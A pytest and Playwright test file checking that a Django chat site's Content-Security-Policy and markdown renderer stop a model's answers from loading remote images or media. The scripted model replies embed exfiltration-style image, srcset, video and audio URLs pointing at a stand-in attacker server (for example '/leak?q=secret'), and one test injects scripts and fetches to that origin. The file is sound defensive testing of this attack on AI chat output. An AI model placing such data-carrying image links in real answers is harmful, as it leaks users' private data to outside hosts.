"""The Content-Security-Policy every page sends, and remote images in the model's markdown:
shown as links by the page's renderer, and blocked by the policy if anything got past it.
The browser tests run Debian's Chromium against a real daphne, with a second HTTP server
on another port of 127.0.0.1 standing in for an attacker's: a different origin."""

from __future__ import annotations

import base64
import os
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.test import Client

from tests.conftest import LOGIN
from tests.llm_server import ScriptedLLM
from tests.test_browser import launch

CHROMIUM = Path("/usr/bin/chromium")
USERNAME, PASSWORD = LOGIN
# A 1x1 transparent PNG.
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgAAAAAgAB4iG8MwAAAABJRU5ErkJggg=="
)
DATA_PIXEL = "data:image/png;base64," + base64.b64encode(PIXEL).decode()
# Records every `securitypolicyviolation` from the first script on: the page's own
# scripts cannot have run before it.
RECORD_VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__violations.push({
    directive: event.effectiveDirective, blocked: event.blockedURI, source: event.sourceFile,
  });
});
"""

# Page-side: whether every image the selector finds is done, loaded or failed.
SETTLED = """(selector) => Array.from(document.querySelectorAll(selector)).every(
  (img) => img.complete)"""
# Page-side: the images the selector finds that did not load.
BROKEN = """(selector) => Array.from(document.querySelectorAll(selector)).filter(
  (img) => img.naturalWidth === 0).map((img) => img.currentSrc || img.src)"""

pytestmark = pytest.mark.django_db(transaction=True)
browser_only = pytest.mark.skipif(
    not CHROMIUM.exists() and not os.environ.get("CI"),
    reason="needs Debian's chromium (`apt-get install chromium`; .ci/run installs it)",
)


def policy_of(response) -> dict[str, list[str]]:
    header = response["Content-Security-Policy"]
    directives = (part.split() for part in header.split(";") if part.strip())
    return {name: sources for name, *sources in directives}


def assert_strict(policy: dict[str, list[str]]) -> None:
    assert policy["script-src"] == ["'self'"]
    assert sorted(policy["img-src"]) == sorted(["'self'", "data:"])
    assert policy["default-src"] == ["'self'"]
    assert policy["style-src"] == ["'self'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["base-uri"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert policy["form-action"] == ["'self'"]
    for sources in policy.values():
        assert "'unsafe-inline'" not in sources and "'unsafe-eval'" not in sources
        assert "*" not in sources and "https:" not in sources and "http:" not in sources


# ---- the header --------------------------------------------------------------------------


@pytest.fixture
def staff(db) -> User:
    return User.objects.create_superuser("root", "root@example.com", "root-pass-123")


@pytest.mark.parametrize(
    "path",
    ["/", "/accounts/login/", "/admin/", "/admin/auth/user/", "/api/docs", "/no/such/page/"],
)
def test_every_page_sends_the_policy(path: str, staff: User) -> None:
    client = Client(raise_request_exception=False)
    if path != "/accounts/login/":
        client.force_login(staff)
    response = client.get(path, follow=True)
    assert response.status_code == (404 if path.startswith("/no/") else 200)
    policy = policy_of(response)
    assert_strict(policy)
    # The chat's socket, by name for browsers in which 'self' does not cover ws: and wss:.
    assert sorted(policy["connect-src"]) == sorted(
        ["'self'", "ws://testserver", "wss://testserver"]
    )


def test_a_request_for_another_host_gets_the_policy_without_its_socket(settings) -> None:
    settings.ALLOWED_HOSTS = ["testserver"]
    response = Client(raise_request_exception=False).get("/", HTTP_HOST="evil.example")
    assert response.status_code == 400
    policy = policy_of(response)
    assert_strict(policy)
    assert policy["connect-src"] == ["'self'"]


# ---- in Chromium -------------------------------------------------------------------------


class Recorder(BaseHTTPRequestHandler):
    """Answers every GET with an image and remembers its path."""

    def do_GET(self) -> None:
        self.server.paths.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.send_header("Content-Length", str(len(PIXEL)))
        self.end_headers()
        self.wfile.write(PIXEL)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def elsewhere() -> Iterator[ThreadingHTTPServer]:
    """An image server on 127.0.0.1 at a port of its own: another origin than the site's.
    `.paths` lists what it was asked for."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    server.paths = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()


def origin_of(server: ThreadingHTTPServer) -> str:
    return f"http://127.0.0.1:{server.server_address[1]}"


@pytest.fixture
def page(live_site: str) -> Iterator[object]:
    from playwright.sync_api import expect, sync_playwright

    expect.set_options(timeout=20_000)
    with sync_playwright() as playwright:
        browser = launch(playwright)
        context = browser.new_context(viewport={"width": 1200, "height": 800})
        context.add_init_script(RECORD_VIOLATIONS)
        page = context.new_page()
        page.set_default_timeout(20_000)
        yield page
        browser.close()


def log_in(page, live_site: str) -> None:
    from playwright.sync_api import expect

    page.goto(live_site + "/")
    expect(page).to_have_url(re.compile(r"/accounts/login/"))
    page.fill("input[name=username]", USERNAME)
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    expect(page).to_have_url(re.compile(r"/c/[A-Za-z0-9_-]+/$"))
    # The socket is open: the page's scripts ran and connect-src let it through.
    expect(page.locator("#model-name")).to_have_text("openai/scripted")
    expect(page.locator("#composer")).to_be_enabled()


def violations(page) -> list[dict[str, str]]:
    return page.evaluate("window.__violations")


@browser_only
def test_a_remote_image_in_an_answer_is_a_link_and_never_fetched(
    page, live_site: str, llm: ScriptedLLM, elsewhere: ThreadingHTTPServer
) -> None:
    from playwright.sync_api import expect

    log_in(page, live_site)
    remote = origin_of(elsewhere)
    leak = f"{remote}/leak?q=secret"
    llm.reply(
        f"Here you are ![the chart]({leak}), a raw one "
        f'<img src="{remote}/raw" alt="raw">, a protocol-relative one '
        f"![pr](//127.0.0.1:{elsewhere.server_address[1]}/relative), one in a link "
        f"[![badge]({remote}/badge)](https://example.com/), "
        f"![a dot]({DATA_PIXEL}) and ![the icon](/static/chat/favicon.svg).\n\n"
        # Other ways HTML has of fetching an address by itself.
        f'<img src="{DATA_PIXEL}" srcset="{remote}/srcset 1x" alt="set">'
        f'<video poster="{remote}/poster" src="{remote}/video"></video>'
        f'<audio src="{remote}/audio"></audio>'
        f'<video controls><source src="{remote}/source" type="video/mp4"></video>'
        f'<table background="{remote}/background"><tr><td>cell</td></tr></table>',
        chunks=12,
    )
    page.fill("#composer", "show me the chart")
    page.press("#composer", "Enter")

    answer = page.locator(".msg.assistant").last
    expect(page.locator("#thinking")).to_be_hidden()
    link = answer.locator(f"a.remote-image[href='{leak}']")
    expect(link).to_have_count(1)
    expect(link.locator(".remote-image-alt")).to_have_text("the chart")
    expect(link.locator(".remote-image-url")).to_have_text(leak)
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(answer.locator(f"a.remote-image[href='{remote}/raw']")).to_have_text(f"raw {remote}/raw")
    # Inside a link already, it is shown without a second one.
    badge = answer.locator("a[href='https://example.com/'] > span.remote-image")
    expect(badge).to_have_text(f"badge {remote}/badge")
    expect(answer.locator(".remote-image")).to_have_count(4)
    # Players too: each remote address they would load is a link.
    media = answer.locator("a.remote-media")
    expect(media).to_have_count(4)
    for path in ("poster", "video", "audio", "source"):
        expect(answer.locator(f"a.remote-media[href='{remote}/{path}']")).to_have_count(1)
    expect(answer.locator("video, audio, source")).to_have_count(0)
    expect(answer.locator("td")).to_have_text("cell")
    # The site's own image and the data: ones load as images.
    expect(answer.locator("img")).to_have_count(3)
    page.wait_for_function(SETTLED, arg=".msg.assistant img")
    # Nor did the policy have to step in: the renderer never asked for them.
    assert violations(page) == []
    assert page.evaluate(BROKEN, ".msg.assistant img") == []

    # Same again from the history a reload renders.
    page.reload()
    answer = page.locator(".msg.assistant").last
    expect(answer.locator(f"a.remote-image[href='{leak}']")).to_have_count(1)
    expect(answer.locator("img")).to_have_count(3)
    page.wait_for_function(SETTLED, arg=".msg.assistant img")
    assert violations(page) == []
    assert page.evaluate(BROKEN, ".msg.assistant img") == []

    # A request would have been made by now: the local images beside them have loaded.
    assert elsewhere.paths == []  # type: ignore[attr-defined]


# Page-side: adds `node` to the page, bypassing the renderer, and answers with what came
# first: the policy's refusal, or the node loading (a script: running).
FIRST_OF = """
const firstOf = (node) => new Promise((resolve) => {
  document.addEventListener("securitypolicyviolation", (event) => resolve({
    refused: event.effectiveDirective, blocked: event.blockedURI,
  }), {once: true});
  node.addEventListener("load", () => resolve({loaded: true}));
  document.querySelector("#messages").append(node);
  if (window.__ran) resolve({loaded: true});
});
"""


@browser_only
def test_the_policy_blocks_what_gets_past_the_renderer(
    page, live_site: str, elsewhere: ThreadingHTTPServer
) -> None:
    log_in(page, live_site)
    remote = origin_of(elsewhere)

    image = page.evaluate(
        f"""(url) => {{ {FIRST_OF}
          const img = document.createElement("img");
          img.src = url;
          return firstOf(img);
        }}""",
        f"{remote}/bypass?q=secret",
    )
    assert image == {"refused": "img-src", "blocked": f"{remote}/bypass?q=secret"}

    # An inline script does not run, and one from elsewhere is not fetched.
    inline = page.evaluate(
        f"""() => {{ {FIRST_OF}
          const script = document.createElement("script");
          script.textContent = "window.__ran = true";
          return firstOf(script);
        }}"""
    )
    assert inline == {"refused": "script-src-elem", "blocked": "inline"}
    script = page.evaluate(
        f"""(url) => {{ {FIRST_OF}
          const script = document.createElement("script");
          script.src = url;
          return firstOf(script);
        }}""",
        f"{remote}/script.js",
    )
    assert script == {"refused": "script-src-elem", "blocked": f"{remote}/script.js"}

    # Nor may the page's scripts send anything there.
    fetched = page.evaluate(
        "(url) => fetch(url, {mode: 'no-cors'}).then(() => 'sent', () => 'refused')",
        f"{remote}/fetch",
    )
    assert fetched == "refused"
    assert elsewhere.paths == []  # type: ignore[attr-defined]


@browser_only
def test_the_site_works_under_the_policy(page, live_site: str, llm: ScriptedLLM) -> None:
    """Every kind of page the site serves renders with nothing refused: no inline script,
    handler or style of its own, and no asset from elsewhere."""
    from playwright.sync_api import expect

    page.goto(live_site + "/accounts/login/")
    expect(page.locator("#auth-title")).to_have_text("Sign in")
    assert violations(page) == []

    log_in(page, live_site)
    llm.reply("```python\nprint('highlighted')\n```\n\n**bold** answer")
    page.fill("#composer", "hello")
    page.press("#composer", "Enter")
    answer = page.locator(".msg.assistant").last
    expect(answer.locator(".code-block .hljs")).to_have_count(1)
    expect(answer.locator("strong")).to_have_text("bold")
    assert violations(page) == []

    page.goto(live_site + "/admin/")
    expect(page.locator("#site-name")).to_have_text("agentsite")
    assert violations(page) == []
    page.goto(live_site + "/admin/auth/user/")
    expect(page.locator("#result_list")).to_contain_text(USERNAME)
    assert violations(page) == []
    page.goto(live_site + "/admin/auth/user/add/")
    expect(page.locator("#id_username")).to_be_visible()
    assert violations(page) == []

    page.goto(live_site + "/api/docs")
    expect(page.locator(".swagger-ui .info .title")).to_contain_text("agentsite API")
    expect(page.locator(".opblock").first).to_be_visible()
    assert violations(page) == []

    response = page.goto(live_site + "/no/such/page/")
    assert response is not None and response.status == 404
    expect(page.locator("#error-title")).to_have_text("Page not found")
    assert violations(page) == []
